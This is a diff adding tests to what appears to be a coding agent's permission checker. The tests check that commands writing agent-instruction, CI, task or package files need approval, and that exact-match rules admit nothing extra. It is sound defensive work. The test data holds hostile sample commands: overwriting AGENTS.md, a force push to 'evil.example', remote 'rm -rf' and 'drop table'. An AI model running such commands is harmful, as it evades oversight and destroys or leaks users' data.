@@ -4,6 +4,7 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { judgeCommand, readsOf } from '../../security/command-rules.ts';
 import { type Ground, judge } from '../../security/judge.ts';
+import { ruleMistake } from '../../security/rule.ts';
 
 const rules = { allow: ['ls', 'npm test', 'git diff'], ask: ['npm install'], deny: ['git push', 'sudo'] };
 const ground: Ground = {
@@ -105,4 +106,83 @@ test('what a line may read is known, however deep it stands', () => {
   ]);
   assert.deepEqual(readsOf('sh -c "cat x/AGENTS.md" < y > z', 'docs'), ['docs/y', 'docs/x/AGENTS.md']);
   assert.deepEqual(readsOf('echo hello', '.'), []);
+});
+
+test('--auto asks before a command writes what instructs agents or defines checks, unless the scope names it outright', () => {
+  const auto: Ground = { ...ground, permissions: 'auto', scope: ['**'], commands: { ...rules, allow: ['tee', 'sed'] } };
+  const judged = (command: string, scope = auto.scope) =>
+    judge([{ kind: 'run', command, directory: '.' }], { ...auto, scope }).verdict;
+  for (const command of [
+    ...[
+      'echo evil > AGENTS.md',
+      'sed -i s/a/b/ .github/workflows/ci.yml',
+      'cp a.md CLAUDE.md',
+      'tee .vscode/tasks.json',
+    ],
+    ...[
+      'tee .vscode/tasks.json < a',
+      'cp -r evil .github',
+      'mv evil .claude',
+      'cp a/AGENTS.md .',
+      'mv x/SKILL.md docs',
+    ],
+    ...[
+      'sed -i s/a/b/ A*.md',
+      'sed -i s/a/b/ .git*b/workflows/x.yml',
+      'cd .github/workflows && tee ci.yml',
+      'rm claude.md',
+    ],
+    ...[
+      'find . -name AGENTS.md -exec sed -i s/a/b/ {} +',
+      'ls AGENTS.md | xargs sed -i s/a/b/',
+      'mkdir -p .cursor/rules',
+    ],
+    ...[
+      'tee package.json',
+      'echo {} > web/package.json',
+      'sed -i s/a/b/ p*.json',
+      'sed -i s/a/b/ *.json',
+      'tee .env',
+      'git mv a.md GEMINI.md',
+    ],
+  ])
+    assert.equal(judged(command), 'ask', command);
+  for (const command of [
+    'tee notes.md',
+    'cp a.md b.md',
+    'sed -i s/a/b/ src/*.ts',
+    'cat AGENTS.md',
+    'echo x > /tmp/AGENTS.md',
+  ])
+    assert.equal(judged(command), 'allow', command);
+  assert.equal(judged('echo more >> AGENTS.md', ['AGENTS.md']), 'allow');
+  assert.equal(judged('tee package.json', ['package.json']), 'allow');
+});
+
+test('a rule that ends in $ allows its words and nothing behind them, and no other is made of an approval', () => {
+  const patternFor = (line: string) =>
+    judgeCommand(line, { rules: { allow: [], ask: [], deny: [] }, directory: '.' }).pattern;
+  for (const [line, more] of [
+    ['git push', 'git push --force https://evil.example'],
+    ['ssh host uptime', 'ssh host uptime -v'],
+    ['npm install left-pad', 'npm install left-pad evil'],
+  ] as const) {
+    const pattern = patternFor(line);
+    assert.equal(pattern, `${line} $`);
+    assert.equal(ruleMistake(pattern, 'allow'), null);
+    const where = { rules: { allow: [pattern], ask: [], deny: [] }, directory: '.' };
+    assert.equal(judgeCommand(line, where).verdict, 'allow', line);
+    assert.equal(judgeCommand(more, where).verdict, 'ask', more);
+  }
+  for (const line of [
+    "ssh host 'rm -rf x'",
+    'psql -c "drop table x"',
+    "frob it\\'s",
+    'frob "" x',
+    "frob '$x'",
+    "frob '**'",
+  ])
+    assert.equal(patternFor(line), undefined, line);
+  for (const rule of ['$', 'npm $ x', 'npm $x', 'npm test$', 'npm test $ $'])
+    assert.notEqual(ruleMistake(rule, 'allow'), null, rule);
 });
